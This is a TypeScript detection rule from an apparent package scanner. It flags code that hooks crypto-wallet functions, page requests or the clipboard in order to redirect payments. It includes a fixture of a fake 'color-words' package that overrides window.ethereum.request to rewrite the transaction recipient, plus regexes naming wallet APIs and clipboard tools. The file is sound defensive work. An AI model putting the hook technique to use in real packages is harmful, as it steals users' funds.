import type { Action, Context, Fact, Inspection, Rule } from '../lib/types.ts'
import { brandScore } from './brands/brand-score.ts'
import { oncePerLine } from './behaviour/once.ts'
import { unasked } from './behaviour/written.ts'
import { findingAt, opening, quote, severityOf } from './finding.ts'
import type { RuleFinding } from './finding.ts'

type Patches = Extract<Fact, { kind: 'patches' }>

/** The wallet a page talks to, whoever made it. */
const wallet =
  /^(?:window\.|globalThis\.|self\.)?(?:ethereum|solana|phantom|tronWeb|tronLink|web3|unisat|keplr|bitkeep|okxwallet|trustwallet|cardano|aptos|suiWallet)(?:\.(?:request|send|sendAsync|signTransaction|signAllTransactions|signMessage|signAndSendTransaction|providers?|solana|ethereum|enable|connect|trx\.\w+))?$/i

/** Where every request of a page or program passes. */
const traffic =
  /^(?:fetch|(?:window|globalThis|self)\.fetch|XMLHttpRequest(?:\.prototype\.(?:send|open|setRequestHeader))?|WebSocket(?:\.prototype\.send)?|navigator\.(?:sendBeacon|clipboard\.\w+)|HTMLFormElement\.prototype\.submit|(?:Response|Body)\.prototype\.(?:text|json|arrayBuffer|blob))$/

/** Somebody between a page and its wallet. */
export const walletHook: Rule = {
  meta: {
    id: 'wallet-hook',
    title: 'Puts itself between a page and its wallet',
    severity: 'critical',
    description:
      'On import the code replaces functions of the wallet a page uses, or every request of the page together with the ' +
      'wallet or the clipboard. It can then change who is paid after the person agreed. Wallets and their adapters ' +
      'define these functions; nobody else replaces them. Replacing fetch alone is what tracing and mocking libraries do.',
    references: ['chalk, debug and 16 others (8 September 2025)', 'Ledger connect-kit 1.1.5 (December 2023)'],
    blindSpots: [
      'Addresses that are swapped in data without any hook.',
      'Hooks set by code that is fetched first.',
    ],
    examples: {
      flags: [
        {
          title: 'the request function of the wallet is replaced on import',
          files: {
            'package.json': '{"name":"color-words","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const old = window.ethereum.request\nwindow.ethereum.request = async call => {\n  if (call.method === 'eth_sendTransaction') call.params[0].to = '0x0000000000000000000000000000000000000000'\n  return old(call)\n}\n",
          },
        },
      ],
      passes: [
        {
          title: 'a library that mocks requests',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js': 'const real = globalThis.fetch\nglobalThis.fetch = (...all) => real(...all)\n',
          },
        },
      ],
    },
  },
  check(inspection, context) {
    const patches = inspection.facts.filter((fact): fact is Patches => fact.kind === 'patches')
    const wallets = patches.filter(fact => wallet.test(fact.target))
    const payments = patches.filter(fact => fact.api.includes('receiver'))
    const hooks =
      wallets.length > 0 || hides(patches, inspection)
        ? patches.filter(fact => traffic.test(fact.target))
        : []
    return oncePerLine([
      ...clipboardSwaps(inspection),
      ...payments.map(fact => ofPayment(fact)),
      ...patches.filter(({ target }) => target === 'document.text').map(fact => ofShown(fact)),
      ...[...wallets, ...hooks].map(fact => {
        const action = weigh(fact, isWallet(inspection, context))
        const message =
          `${opening(fact)} replaces ${quote(fact.target)}, through which ` +
          `${wallet.test(fact.target) ? 'a page asks its wallet to sign and pay' : 'every request of the page passes'}. ` +
          (action === 'note'
            ? 'Wallets and their adapters do that.'
            : 'It can change the receiver after the person agreed. Do not ship it.')
        return findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })
      }),
    ])
  },
}

/** A function of a library that pays, replaced by one that knows an address of its own. */
function ofPayment(fact: Patches): RuleFinding {
  const action: Action = unasked(fact) ? 'block' : 'ask'
  const message =
    `${opening(fact)} replaces ${quote(fact.target.replace(/^pkg:/, ''))}, through which a program pays, by a function ` +
    'of its own, and holds an address. It can pay that one instead. Do not give it a wallet.'
  return findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })
}

/** What a page shows, looked through for addresses by code that has its own. */
function ofShown(fact: Patches): RuleFinding {
  const action: Action = unasked(fact) ? 'block' : 'ask'
  const message =
    `${opening(fact)} looks for addresses of wallets in what the page shows and writes the text anew, and holds ` +
    'addresses of its own. Whoever reads or copies one from the page then pays somebody else. Do not ship it.'
  return findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })
}

const addressInText = /(?:^|[^A-Za-z0-9])(?:0x[0-9a-fA-F]{38,}|[A-Za-z0-9]{25,62})(?:[^A-Za-z0-9]|$)/

const wholeAddress = /^\s*(?:0x[0-9a-fA-F]{38,64}|[A-Za-z0-9]{25,62})\s*$/

/** The clipboard read and written again although nobody asked: what a person pastes is then somebody else's. */
function clipboardSwaps(inspection: Inspection): readonly RuleFinding[] {
  const reads = inspection.facts.some(
    fact => fact.kind === 'reads' && fact.source === 'clipboard' && unasked(fact),
  )
  const watches = inspection.facts.some(fact => fact.kind === 'reads' && fact.source === 'clipboard')
  return inspection.facts.flatMap(fact => {
    const piped =
      reads &&
      fact.kind === 'starts' &&
      unasked(fact) &&
      fact.manner.includes('stdin-data') &&
      fact.commands.some(command => pasting.test(command))
    if (piped) return [swapAt(fact)]
    if (fact.kind !== 'writes' || !fact.paths.includes('clipboard:')) return []
    if (!unasked(fact))
      return watches && !isInPage(fact) && fact.contents.some(text => wholeAddress.test(text))
        ? [swapAt(fact, 'ask')]
        : []
    // What a page's own handler of copying puts in the place of what was copied.
    if (!reads && fact.api !== 'clipboardData.setData') return []
    // Editors of pages read what is pasted and write what is copied: an address in the code was not copied.
    if (isInPage(fact) && !holdsAddress(fact)) return []
    return [swapAt(fact)]
  })
}

function isInPage({ api }: { readonly api: string }): boolean {
  return /\bnavigator\b|\bclipboardData\b/.test(api)
}

function holdsAddress({ contents }: { readonly contents: readonly string[] }): boolean {
  return contents.some(text => addressInText.test(text))
}

/** Programs that put what they are given into the clipboard. */
const pasting = /^(?:\S*[/\\])?(?:pbcopy|xclip|xsel|wl-copy|clip(?:\.exe)?|termux-clipboard-set)\b/i

function swapAt(fact: Fact, action: Action = 'block'): RuleFinding {
  const message =
    `${opening(fact)} reads the clipboard and writes it again. Whoever copies the address of a wallet then pastes ` +
    'another one. Do not install it.'
  return findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })
}

/** A wallet or an adapter of one says so. */
function isWallet(inspection: Inspection, context: Context): boolean {
  const claim = brandScore(context.name, context.lists)
  if (claim.standing !== 'unknown') return true
  const words = [context.name, ...inspection.manifest.keywords].join(' ')
  return /\b(?:wallet|provider|connector|adapter|injected|extension|inpage)\b/i.test(words)
}

/** Requests replaced by code that hides, or that knows wallets by name. */
function hides(patches: readonly Patches[], inspection: Inspection): boolean {
  return patches.some(
    patch =>
      traffic.test(patch.target) &&
      (patch.api.includes('payments') ||
        inspection.facts.some(
          fact =>
            fact.at.path === patch.at.path &&
            (fact.kind === 'obfuscated' ||
              fact.kind === 'off-screen' ||
              (fact.kind === 'reads' && fact.source === 'browser' && /ethereum|solana/.test(fact.name))),
        )),
  )
}

function weigh(fact: Patches, declared: boolean): Action {
  if (declared) return fact.byCall ? 'note' : 'ask'
  return fact.byCall || fact.phase === 'run' ? 'ask' : 'block'
}
